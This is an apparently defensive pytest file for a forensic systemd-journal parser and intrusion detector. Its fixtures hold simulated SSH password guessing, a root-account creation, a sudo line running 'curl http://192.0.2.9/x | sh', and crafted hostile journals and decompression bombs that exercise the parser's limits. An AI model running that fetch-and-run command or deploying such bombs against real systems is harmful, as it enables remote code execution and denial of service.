# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The systemd journal, in files that systemd's own writer makes; and hostile ones."""

from __future__ import annotations

import io
import lzma
import os
import random
import struct
import subprocess
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from ansible_collections.dfir.aws.plugins.module_utils.forensics import journal
from ansible_collections.dfir.aws.plugins.module_utils.forensics.findings import collect
from ansible_collections.dfir.aws.plugins.module_utils.forensics.journal import JournalEntry, JournalError, JournalFile
from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Finding
from ansible_collections.dfir.aws.plugins.module_utils.forensics.tree import Tree

WRITERS = [Path(folder) / "systemd-journal-remote" for folder in ("/lib/systemd", "/usr/lib/systemd")]
START = 1_772_359_200  # 2026-03-01 10:00:00 UTC
FAILED = "Failed password for root from 203.0.113.5 port 4 ssh2"
ACCEPTED = "Accepted password for root from 203.0.113.5 port 4 ssh2"


def write(path: Path, messages: list[tuple[float, str, str]], *, compact: bool = True, **fields: Any) -> Path:
    """A journal file with `(seconds after the start, identifier, message)`."""
    writer = next((path for path in WRITERS if path.exists()), None)
    if writer is None:
        pytest.skip("systemd-journal-remote is not installed")
    text = ""
    for number, (after, identifier, message) in enumerate(messages):
        entry = {"__REALTIME_TIMESTAMP": int((START + after) * 1e6), "__MONOTONIC_TIMESTAMP": int(after * 1e6) + 1,
                 "_BOOT_ID": "0" * 31 + "1", "_HOSTNAME": "h", "_UID": 0, "_PID": 100 + number, "_COMM": identifier,
                 "SYSLOG_IDENTIFIER": identifier, "SYSLOG_PID": 100 + number, "MESSAGE": message, **fields}
        text += "".join(f"{key}={value}\n" for key, value in entry.items()) + "\n"
    path.parent.mkdir(parents=True, exist_ok=True)
    source = path.with_suffix(".export")
    source.write_text(text)
    subprocess.run([writer, "-o", path, source], check=True, capture_output=True,
                   env={**os.environ, "SYSTEMD_JOURNAL_COMPACT": str(int(compact))})
    source.unlink()
    return path


def entries(data: bytes) -> tuple[list[JournalEntry], JournalFile]:
    file = JournalFile(io.BytesIO(data), lambda message: True)
    return list(file), file


def findings(root: Path) -> list[Finding]:
    found, failed, _known = collect(Tree(root), lambda text: None)
    assert failed == []
    return found


GUESSED = [*((float(number), "sshd", FAILED) for number in range(40)), (60.0, "sshd", ACCEPTED)]
FOLDER = "var/log/journal/0123456789abcdef0123456789abcdef"


@pytest.mark.parametrize("compact", [True, False])
def test_entries_are_what_the_writer_was_told(tmp_path: Path, compact: bool) -> None:
    messages = [(0.5, "sshd", FAILED), (1, "app", "x" * 5000), (2, "app", "große Änderung"), (3, "app", "a=b\x01")]
    path = write(tmp_path / "system.journal", messages, compact=compact)
    found, file = entries(path.read_bytes())
    assert [item.message for item in found] == [message for _, _, message in messages]
    assert found[0] == JournalEntry(datetime(2026, 3, 1, 10, 0, 0, 500_000, timezone.utc), "sshd", "100", FAILED,
                                    "sshd", 0)
    assert (file.damaged, file.given_up) == (0, "")


def test_break_in_that_only_the_journal_knows(tmp_path: Path) -> None:
    """Debian 12 installs no rsyslog: there is no auth.log."""
    write(tmp_path / FOLDER / "system.journal", [
        *GUESSED, (70.0, "useradd", "new user: name=x, UID=0, GID=0, home=/root, shell=/bin/bash, from=none"),
        (80.0, "sudo", "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c 'curl http://192.0.2.9/x | sh'")])
    found = {item.rule: item for item in findings(tmp_path)}
    assert found["guessed_password"].severity == "critical"
    assert "after 40 failures" in found["guessed_password"].reason
    assert found["guessed_password"].path == f"/{FOLDER}/system.journal"
    assert found["account_changed"].severity == "high"
    assert found["sudo_command"].severity == "high"


def test_rotated_and_unclean_files_are_read(tmp_path: Path) -> None:
    write(tmp_path / FOLDER / "system@0001.journal", GUESSED[:20])
    write(tmp_path / FOLDER / "x.journal", GUESSED[20:]).rename(tmp_path / FOLDER / "system@0002.journal~")
    assert "after 40 failures" in next(item.reason for item in findings(tmp_path) if item.rule == "guessed_password")


def text_log(root: Path, messages: list[tuple[float, str, str]]) -> None:
    lines = (f"{datetime.fromtimestamp(START + after, timezone.utc):%Y-%m-%dT%H:%M:%S.%f+00:00} h "
             f"{identifier}[{100 + number}]: {message}\n"
             for number, (after, identifier, message) in enumerate(messages))
    (root / "var/log").mkdir(parents=True, exist_ok=True)
    (root / "var/log/auth.log").write_text("".join(lines))


def test_what_both_logs_say_counts_once(tmp_path: Path) -> None:
    few = [*GUESSED[:6], GUESSED[-1]]  # 6 failures are no guessing, 12 would be
    write(tmp_path / FOLDER / "system.journal", few)
    text_log(tmp_path, few)
    assert {item.rule for item in findings(tmp_path)} == {"first_login"}


def test_lines_that_were_taken_out_of_the_text_log_are_noticed(tmp_path: Path) -> None:
    write(tmp_path / FOLDER / "system.journal", [*GUESSED, (90.0, "sshd", FAILED)])
    told = [*GUESSED[:40], (60.0, "sshd", "Connection closed"), (90.0, "sshd", FAILED)]
    text_log(tmp_path, told)
    found = {item.rule: item for item in findings(tmp_path)}
    assert found["text_log_gaps"].severity == "medium" and "1 messages" in found["text_log_gaps"].reason
    assert found["guessed_password"].severity == "critical"


def test_what_another_user_sends_under_the_name_of_sshd_is_no_login(tmp_path: Path) -> None:
    write(tmp_path / FOLDER / "system.journal", GUESSED, _UID=1000, _COMM="logger")
    (found,) = findings(tmp_path)
    assert found.rule == "forged_message" and "41 messages" in found.reason and "logger with user id" in found.reason


def test_damage_costs_what_it_hit_and_no_more(tmp_path: Path) -> None:
    path = write(tmp_path / "system.journal", [(number, "app", f"message {number}") for number in range(500)])
    data = bytearray(path.read_bytes())
    middle = data.index(b"MESSAGE=message 250")
    data[middle - 72:middle + 2000] = b"\xa5" * 2072
    found, file = entries(bytes(data))
    assert 480 < len(found) < 500 and found[-1].message == "message 499"
    assert file.damaged == 1


@pytest.mark.parametrize("data", [b"", b"LPKSHHRH", b"LPKSHHRH" + bytes(400), bytes(5000)])
def test_what_is_no_journal_is_said(data: bytes) -> None:
    with pytest.raises(JournalError):
        entries(data)


def header(flags: int = journal.COMPACT) -> bytes:
    return (struct.pack("<8sII72xQQ", b"LPKSHHRH", 0, flags, 272, 1 << 20)).ljust(272, b"\0")


def data_object(payload: bytes, flags: int = 0) -> bytes:
    body = struct.pack("<BB6xQ", 1, flags, 72 + len(payload)) + bytes(56) + payload
    return body + bytes(-len(body) % 8)


def test_random_damage_ends_in_no_error(tmp_path: Path) -> None:
    original = write(tmp_path / "system.journal", GUESSED).read_bytes().rstrip(b"\0")
    chance = random.Random(7)
    for _ in range(60):
        data = bytearray(original)
        for _ in range(chance.randrange(1, 200)):
            data[chance.randrange(100, len(data))] = chance.randrange(256)
        entries(bytes(data[:chance.randrange(200, len(data) + 1)]))
    (tmp_path / FOLDER).mkdir(parents=True)
    (tmp_path / FOLDER / "system.journal").write_bytes(original[:5000])
    (tmp_path / FOLDER / "user-1.journal").write_bytes(b"nonsense")
    assert "journal_unread" in {item.rule for item in findings(tmp_path)}


def test_a_hostile_file_is_given_up() -> None:
    """Objects of the smallest size between broken ones: each would cost a search."""
    broken = struct.pack("<BB6xQ", 4, 0, 16) + b"\xff" * 8
    _found, file = entries(header() + broken * 200_000)
    assert file.damaged == journal.DAMAGE_LIMIT and file.given_up


@pytest.mark.parametrize("bomb", [
    (journal.XZ, lzma.compress(b"MESSAGE=" + bytes(50 << 20))),
    (journal.LZ4, (1 << 60).to_bytes(8, "little") + b"\x1f" + b"A" * 50),
    (journal.ZSTD, bytes.fromhex("28b52ffd") + b"\xff" * 40)])
def test_packed_fields_are_bounded(bomb: tuple[int, bytes]) -> None:
    flags, data = bomb
    assert len(journal.unpack(data, flags)) <= journal.VALUE_LIMIT


@pytest.mark.parametrize("kind", ["xz", "lz4", "zstd"])
def test_packed_messages_are_read(kind: str) -> None:
    """Journals of other distributions; the writer here packs with zstd only."""
    text = b"MESSAGE=" + FAILED.encode()
    if kind == "xz":
        flags, packed = journal.XZ, lzma.compress(text)
    elif kind == "lz4":
        block = pytest.importorskip("lz4.block", reason="lz4 is not installed")
        flags, packed = journal.LZ4, len(text).to_bytes(8, "little") + block.compress(text, store_size=False)
    else:
        zstd = pytest.importorskip("backports.zstd", reason="backports.zstd is not installed")
        flags, packed = journal.ZSTD, zstd.compress(text)
    first = data_object(packed, flags)
    entry = struct.pack("<BB6xQQQ40xI", 3, 0, 68, 1, START * 10**6, len(header()))
    entry = entry[:64] + entry[-4:]
    (item,), _file = entries(header() + first + entry.ljust(72, b"\0"))
    assert item.message == FAILED
